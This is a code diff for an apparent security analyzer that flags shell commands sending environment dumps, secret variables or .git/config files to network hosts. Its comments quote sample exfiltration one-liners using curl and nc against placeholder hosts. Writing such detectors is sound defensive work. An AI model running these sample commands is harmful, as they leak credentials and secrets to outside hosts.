@@ -536,11 +536,6 @@ func (a *analyzer) uploadArchive(name string, args []string, line string) {
 		case "project":
 			a.ask("exfil/project_to_host", "sends an archive of the whole project to another host", line, 0.85)
 			return
-		case "env":
-			// `env > /tmp/e; curl -F f=@/tmp/e URL`: the dump sent by way of a file, as
-			// `curl -d "$(env)" URL` sends it (det70)
-			a.add("exfil/env_to_network", "sends a file holding the environment over the network", line, 0.95)
-			return
 		}
 	}
 }
@@ -553,7 +548,9 @@ var gitConfig = lazyre.New(`(^|/)\.git/config$`)
 
 // gitConfigSent judges a network command (argv) that sends a .git/config: as curl's `-d @F`, `-F
 // x=@F`, `-T F`, an scp or rsync operand copied to a host, or on its standard input (`nc H P <
-// .git/config`, redirs): asked, or refused when it is another user's (otherUsers).
+// .git/config`, redirs): asked, or refused when it is another user's (otherUsers). A file an
+// earlier command on the line wrote the environment or a secret variable into (writes), sent
+// the same ways, is judged as that dump or that echo piped (det70).
 func (a *analyzer) gitConfigSent(argv []string, redirs []*syntax.Redirect) {
 	if argv = unwrapRoot(argv); len(argv) == 0 || !network(base(argv[0])) {
 		return
@@ -583,6 +580,21 @@ func (a *analyzer) gitConfigSent(argv []string, redirs []*syntax.Redirect) {
 	for _, f := range sent {
 		if f, _, _ = strings.Cut(f, ";"); gitConfig.MatchString(f) {
 			a.gitConfigTo(f, line)
+			return
+		}
+		switch held := a.archives[a.fileKey(f)]; {
+		case held == "env":
+			// `env > /tmp/e; curl -F f=@/tmp/e URL`, `nc H P < /tmp/e`: the dump sent by
+			// way of a file, as `curl -d "$(env)" URL` sends it (det70)
+			a.add("exfil/env_to_network", "sends a file holding the environment over the network", line, 0.95)
+			return
+		case strings.HasPrefix(held, "secret:"):
+			// `echo "$AWS_SECRET_ACCESS_KEY" > k; curl -F f=@k URL`: as the echo piped (det70)
+			if name == "scp" || name == "rsync" {
+				a.ask("exfil/secret_var", "copies a file holding a secret variable to another host", line, 0.9)
+				return
+			}
+			a.secretPiped(held[len("secret:"):], name, args, line)
 			return
 		}
 	}
@@ -627,8 +639,10 @@ func (a *analyzer) otherUsers(p string) bool {
 // `printf %s "$OPENAI_API_KEY" | curl --data-binary @- URL`; issue 26, det70), as the variable
 // in curl's body is judged (authTarget): a raw connection or a URL to a bare IP address is
 // refused; an https URL of the service that issued the token (tokenIssuers) passes; any other
-// host is asked about, as a reviewer reads where it goes. ssh running sudo on the host it logs
-// in to (`echo "$PASS" | ssh h sudo -S CMD`) is the password's use, not its leak.
+// host is asked about, as a reviewer reads where it goes. ssh hands it to a command on a host
+// the user logs in to (`echo "$PASS" | ssh h sudo -S CMD`): the password's use, not its leak.
+// A here-string of the variable (`nc H P <<< "$TOKEN"`, flow.go given) and a file an echo of it
+// was written into (gitConfigSent) are judged the same.
 func (a *analyzer) secretPiped(v, name string, args []string, line string) {
 	if name == "openssl" && first(args) != "s_client" {
 		return // `echo "$PASS" | openssl enc -pass stdin …` encrypts here
@@ -640,12 +654,10 @@ func (a *analyzer) secretPiped(v, name string, args []string, line string) {
 		}
 		a.add("exfil/secret_var", "sends a secret variable over a raw network connection", line, 0.9)
 		return
-	case "ssh":
-		if slices.Contains(args, "sudo") {
-			return
-		}
-	case "scp", "sftp", "rsync", "ftp":
-		return // they send files, not what they read
+	case "ssh", "scp", "sftp", "rsync", "ftp":
+		// ssh hands what it reads to a command on a host the user logs in to (`echo "$PASS" |
+		// ssh h sudo -S …`, a deploy script's here-document); the others send files
+		return
 	}
 	own := issuerHosts(v)
 	n, all := 0, 0 // URLs to a host that did not issue the token; URLs
